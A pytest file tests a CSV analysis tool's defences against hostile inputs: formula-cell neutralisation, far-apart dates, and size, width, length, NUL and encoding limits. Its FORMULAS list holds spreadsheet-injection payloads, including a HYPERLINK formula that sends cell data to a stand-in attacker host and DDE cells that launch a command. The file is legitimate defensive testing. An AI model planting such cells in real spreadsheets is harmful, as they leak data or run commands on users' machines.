"""``python -m analysis`` on hostile files: formula cells, far-apart dates, files too large,
too wide or too long, NUL bytes and unknown encodings.

The real command line runs in subprocesses, all started together once for the module.
Sizes and counts are asserted, never times (speed lives in bench/)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from analysis.post_checks import MAX_BYTES, MAX_COLUMNS, MAX_ROWS
from tests.analysis.test_cli_report import sections

ROOT = Path(__file__).resolve().parents[2]

#: Cells a spreadsheet would run, as an attacker writes them, and plain numbers that it would not.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd",
]
NUMBERS = ["-5", "+3", "-0.25", "-1e5"]

FORMULA_INPUT_ROWS = [
    ["Title", "Summary", "=Header", "Score"],
    [FORMULAS[0], "apprentices and the living wage", FORMULAS[1], NUMBERS[0]],
    [FORMULAS[2], FORMULAS[3], FORMULAS[4], NUMBERS[1]],
    ["A fine title", FORMULAS[5], FORMULAS[6], NUMBERS[2]],
    ["-racism in the workplace", "@anchor institutions", "", NUMBERS[3]],
]

FAR_APART = (
    "title,summary,date\n"
    "Battle of Hastings,apprentices,1066-10-14\n"
    "The end of time,living wage,9999-12-31\n"
    "Now,racism,2023-07-05\n"
)


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


@dataclass(frozen=True)
class Run:
    returncode: int
    stdout: str
    stderr: str
    folder: Path


def write_inputs(folder: Path) -> None:
    (folder / "formulas.csv").write_text(csv_text(FORMULA_INPUT_ROWS), encoding="utf-8")
    many = FORMULA_INPUT_ROWS[:1] + FORMULA_INPUT_ROWS[1:] * 8_000  # 4 MB: read in chunks
    (folder / "many.csv").write_text(csv_text(many), encoding="utf-8")
    (folder / "far.csv").write_text(FAR_APART, encoding="utf-8")
    with (folder / "huge.csv").open("wb") as f:  # sparse: 1 GB on paper, nothing on disk
        f.write(b"title,summary\nA,b\n")
        f.truncate(MAX_BYTES + 1)
    wide = ["title", "summary", *(f"column {n}" for n in range(MAX_COLUMNS - 1))]
    (folder / "wide.csv").write_text(",".join(wide) + "\n" + ",".join("x" * len(wide)) + "\n")
    with (folder / "long.csv").open("wb") as f:
        f.write(b"title,summary\n" + b"t,s\n" * (MAX_ROWS + 1))
    filler = b"".join(b"Post %d,fine\n" % n for n in range(500))
    (folder / "nul.csv").write_bytes(b"title,summary\n" + filler + b"Bad,a \x00 b\n")
    (folder / "odd.csv").write_bytes(b"title,summary\nA,b\nC,caf\x81\n")


COMMANDS = {
    "tag formulas": ["tag", "formulas.csv", "-o", "tagged.csv"],
    "tag many": ["tag", "many.csv", "-o", "many-tagged.csv"],
    "report far": ["report", "far.csv", "-o", "far.html"],
    "huge": ["tag", "huge.csv", "-o", "out.csv"],
    "wide": ["report", "wide.csv", "-o", "out.html"],
    "long": ["tag", "long.csv", "-o", "out.csv"],
    "nul": ["tag", "nul.csv", "-o", "out.csv"],
    "odd": ["report", "odd.csv", "-o", "out.html"],
}


@pytest.fixture(scope="module")
def runs(tmp_path_factory) -> dict[str, Run]:
    folder = tmp_path_factory.mktemp("hostile")
    write_inputs(folder)
    started = {
        name: subprocess.Popen(
            [sys.executable, "-m", "analysis", *(str(folder / a) if "." in a else a for a in args)],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            encoding="utf-8",
        )
        for name, args in COMMANDS.items()
    }
    done = {}
    for name, process in started.items():
        stdout, stderr = process.communicate(timeout=300)
        done[name] = Run(process.returncode, stdout, stderr, folder)
    return done


# --- formulas -----------------------------------------------------------------------------------


def risky(cell: str) -> bool:
    plain_number = re.fullmatch(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?", cell)
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not plain_number


@pytest.mark.subprocess
def test_tag_output_has_no_cell_a_spreadsheet_would_run(runs):
    run = runs["tag formulas"]
    assert run.returncode == 0, run.stderr
    text = (run.folder / "tagged.csv").read_bytes().decode("utf-8")  # keep lone CRs as written
    rows = list(csv.reader(io.StringIO(text, newline="")))
    risky_in = sum(risky(cell) for row in FORMULA_INPUT_ROWS for cell in row)
    assert risky_in == 10  # what the input holds, header included
    assert [cell for row in rows for cell in row if risky(cell)] == []
    header, *body = rows
    assert header[:4] == ["Title", "Summary", "'=Header", "Score"]
    for given, written in zip(FORMULA_INPUT_ROWS[1:], body, strict=True):
        assert written[:4] == [("'" + cell if risky(cell) else cell) for cell in given]
    assert [row[3] for row in body] == NUMBERS  # plain numbers stay numbers
    scores = [row[header.index("score_workforce")] for row in body]
    assert all(float(score) >= 0 for score in scores)


@pytest.mark.subprocess
def test_tag_output_of_a_large_file_has_no_cell_a_spreadsheet_would_run(runs):
    run = runs["tag many"]
    assert run.returncode == 0, run.stderr
    text = (run.folder / "many-tagged.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 4 * 8_000
    assert [cell for row in rows for cell in row if risky(cell)] == []
    assert rows[-1][:4] == ["'-racism in the workplace", "'@anchor institutions", "", NUMBERS[3]]


# --- far-apart dates ----------------------------------------------------------------------------


@pytest.mark.subprocess
def test_report_on_far_apart_dates_is_small_and_charts_one_period(runs):
    run = runs["report far"]
    assert run.returncode == 0, run.stderr
    path = run.folder / "far.html"
    assert path.stat().st_size < 6_000_000  # was 144 MB (178,665 coverage rows)
    document = path.read_text(encoding="utf-8")
    report = sections(re.sub(r"<script\b.*?</script>", "", document, flags=re.DOTALL))
    coverage = report.text["coverage"]
    assert "2023 Q3" in coverage and "2023" in coverage
    assert not re.search(r"\b(1066|9999)\b", coverage)
    assert not re.search(r"\b(19|20)\d\d Q\d", coverage.replace("2023 Q3", ""))  # one quarter
    assert "Not charted: 2 undated posts." in coverage
    notes = report.text["data-notes"]
    assert "2 posts have a date outside 1 Jan 1900 to 31 Dec " in notes
    assert "(rows 2, 3, e.g. '1066-10-14')" in notes


# --- refusals: one line on stderr naming the file, exit 2 -------------------------------------


@pytest.mark.subprocess
@pytest.mark.parametrize(
    ("name", "file", "says"),
    [
        ("huge", "huge.csv", "is larger than the limit of 1 GB"),
        ("wide", "wide.csv", "row 1 (the header) has 1,001 columns, more than the limit of 1,000"),
        ("long", "long.csv", "has more than the limit of 2,000,000 posts"),
        ("nul", "nul.csv", "row 502, column 'summary' holds a NUL character"),
        ("odd", "odd.csv", "is not text in UTF-8 or Windows-1252 encoding (line 3 holds"),
    ],
)
def test_a_file_beyond_the_limits_is_one_line_and_exit_2(runs, name, file, says):
    run = runs[name]
    assert run.returncode == 2
    assert run.stdout == ""
    (line,) = run.stderr.splitlines()
    assert line.startswith(f"python -m analysis: error: {run.folder / file}: ")
    assert says in line
    assert not any(p.name.startswith(".out") for p in run.folder.iterdir())  # no leftovers
